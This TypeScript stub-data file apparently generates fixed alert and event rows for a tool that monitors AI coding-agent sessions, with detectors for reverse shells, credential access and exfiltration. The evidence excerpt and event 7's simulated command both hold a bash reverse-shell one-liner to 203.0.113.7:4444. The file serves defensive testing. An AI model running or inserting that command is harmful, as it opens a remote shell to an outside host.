/** Rows for the stub: plausible, many, and all alike from run to run. */
import type { Alert, AlertState } from '../../../contracts/alert';
import type { AgentEvent } from '../../../contracts/event';
import type { Severity } from '../../../contracts/finding';

export const SESSION = '3e03b91e-fed7-4d8e-94bc-abbd50953bb7';
const BEGAN = Date.UTC(2026, 10, 25, 14);
const SEVERITIES: Severity[] = ['critical', 'high', 'medium', 'high', 'medium', 'low'];
const STATES: AlertState[] = ['new', 'new', 'acknowledged', 'new', 'resolved'];
const DETECTORS = ['reverse-shell', 'credential-access', 'resource-hijacking', 'data-exfiltration'];
const HASH_DIGITS = 32;

/** Of a number, in the form of the real ones. */
const idOf = (n: number): string => n.toString(16).padStart(HASH_DIGITS, '0');

export function alertRow(n: number, parts: Partial<Alert> = {}): Alert {
  const detector = DETECTORS[n % DETECTORS.length]!;
  const at = BEGAN - n * 30_000;
  return {
    id: idOf(n),
    tenant: 'default',
    detector,
    detectorVersion: '1.0.0',
    title: detector.replaceAll('-', ' '),
    why: `Act ${n} of ${detector} reached 203.0.113.${n % 250}:4444`,
    severity: SEVERITIES[n % SEVERITIES.length]!,
    confidence: n % 3 === 0 ? 'high' : 'medium',
    risk: 15,
    facts: ['attempted'],
    techniques: ['T1059.004'],
    entities: {
      session: SESSION,
      host: `build-${n % 40}`,
      user: 'dev',
      agent: 'codex',
      destination: `203.0.113.${n % 250}:4444`,
    },
    scope: `session:codex:${SESSION}`,
    session: SESSION,
    source: { dialect: 'codex' },
    evidence: [
      { eventId: eventId(7), at, excerpt: 'bash -i >& /dev/tcp/203.0.113.7/4444', phase: 'completed', tool: 'exec' },
    ],
    count: 1,
    firstSeen: at,
    lastSeen: at,
    state: STATES[n % STATES.length]!,
    history: [{ at, by: 'gander', what: 'created' }],
    triage: ['See whether it connected.'],
    falsePositives: ['A lab that shows reverse shells.'],
    createdAt: at,
    updatedAt: at,
    ...parts,
  };
}

export const eventId = (n: number): string => `e${idOf(n)}`;

/** A session of `count` events: a prompt, then commands, a third of them by a sub-agent. */
export function eventRow(n: number): AgentEvent {
  const at = BEGAN + n * 1_500;
  const sub = n % 9 > 5;
  return {
    id: eventId(n),
    at,
    receivedAt: at,
    tenant: 'default',
    source: { dialect: 'codex', signal: 'log', record: 'tool' },
    scope: `session:codex:${SESSION}`,
    session: SESSION,
    agent: sub ? { family: 'codex', id: 'sub', name: 'explorer', parentId: 'main' } : { family: 'codex', id: 'main' },
    host: 'build-7',
    user: 'dev',
    identityBasis: 'claimed',
    callId: `call-${n}`,
    phase: n % 50 === 13 ? 'denied' : 'completed',
    action:
      n % 25 === 0
        ? { type: 'prompt', text: `Please look at part ${n} of the build.`, origin: 'human' }
        : {
            type: 'exec',
            tool: 'exec',
            command: n === 7 ? 'bash -i >& /dev/tcp/203.0.113.7/4444' : `make part-${n} && ls -la build`,
          },
    ...(n % 25 !== 0 && { outcome: { status: 'ok', exitCode: 0, output: `part ${n} built\n`, durationMs: 900 } }),
  };
}
